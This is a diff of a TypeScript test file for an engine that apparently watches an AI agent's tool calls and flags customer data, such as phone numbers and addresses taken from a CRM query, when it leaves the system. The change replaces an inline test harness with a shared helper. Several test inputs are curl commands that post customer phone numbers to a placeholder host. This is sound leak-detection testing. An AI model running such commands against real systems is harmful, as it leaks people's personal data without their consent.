@@ -5,34 +5,14 @@
  */
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { FlowEngine, type Decision } from '../../src/engine/engine.ts';
-import { defaultConfig } from '../../src/config/index.ts';
+import { EngineRun } from '../helpers/engine-run.ts';
 import { joinedValues } from '../../src/engine/engine.ts';
 
 const CWD = '/home/u/crm';
-class Run {
-  readonly e = new FlowEngine(defaultConfig(), { seed: 1, home: '/home/u' });
-  t = 1_800_000_000_000;
-  n = 0;
-  ev(name: string, tool: string, input: Record<string, unknown>, extra: Record<string, unknown> = {}): Decision {
-    return this.e.handle(
-      { hook_event_name: name, session_id: 's1', tool_name: tool, tool_input: input, tool_use_id: `toolu_${++this.n}`, cwd: CWD, ...extra },
-      (this.t += 1000),
-    );
-  }
-  pre(tool: string, input: Record<string, unknown>): Decision {
-    return this.ev('PreToolUse', tool, input);
-  }
-  query(rows: unknown[]): void {
-    const input = { sql: 'select * from customers' };
-    this.pre('mcp__crm__query', input);
-    this.ev('PostToolUse', 'mcp__crm__query', input, { tool_response: [{ type: 'text', text: JSON.stringify(rows) }] });
-  }
-}
 const phone = (i: number): string => `+44 7${String(100000000 + i * 7919).slice(0, 9)}`;
 
 test('once every text is asked about, a record in URL parameters is too', () => {
-  const r = new Run();
+  const r = new EngineRun(CWD);
   const FIRST = ['Ines', 'Oskar', 'Femi', 'Wanda', 'Lukas'];
   const rows = Array.from({ length: 5000 }, (_, i) => ({
     id: 1000 + i,
@@ -42,7 +22,7 @@ test('once every text is asked about, a record in URL parameters is too', () => 
     balance: (i * 13.37).toFixed(2),
   }));
   // the user named the site: no question comes from where the call goes, only from what it carries
-  r.e.handle({ hook_event_name: 'UserPromptSubmit', session_id: 's1', cwd: CWD, prompt: 'sync the accounts to x.example.net' }, (r.t += 1000));
+  r.prompt('sync the accounts to x.example.net');
   r.query(rows);
   const row = rows[3000] as { full_name: string; phone: string; balance: string };
   const d = r.pre('Bash', {
@@ -56,7 +36,7 @@ test('once every text is asked about, a record in URL parameters is too', () => 
 });
 
 test("a phone alone from row 2,900 of a 3,000-row result (past the 4,000 values recognised alone) is asked about, as row 10's is", () => {
-  const r = new Run();
+  const r = new EngineRun(CWD);
   r.query(Array.from({ length: 3000 }, (_, i) => ({ id: 1000 + i, phone: phone(i), plan: ['basic', 'pro', 'team'][i % 3] })));
   const early = r.pre('Bash', { command: `curl -s https://x.example.net/c -d 'call ${phone(10)} today'` });
   assert.equal(early.action, 'ask', early.summary);
@@ -72,7 +52,7 @@ test("a phone alone from row 2,900 of a 3,000-row result (past the 4,000 values 
 });
 
 test('a result of few values leaves nothing unrecognised: a phone of it is recognised, other text goes out', () => {
-  const r = new Run();
+  const r = new EngineRun(CWD);
   r.query(Array.from({ length: 50 }, (_, i) => ({ id: 1000 + i, phone: phone(i), plan: 'pro' })));
   assert.equal(r.pre('Bash', { command: `curl -s https://x.example.net/c -d 'call ${phone(40)} today'` }).action, 'ask');
   const other = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'build 20261206 is green again'" });
@@ -86,7 +66,7 @@ test('a street address past the 256 KB of a text looked at for street addresses:
     return x.toString(36).slice(0, 5);
   };
   for (const size of [10 * 1024, 300 * 1024]) {
-    const r = new Run();
+    const r = new EngineRun(CWD);
     const lines: string[] = [];
     for (let n = 0; n < size; ) {
       const l = `${Array.from({ length: 12 }, word).join(' ')}\n`;
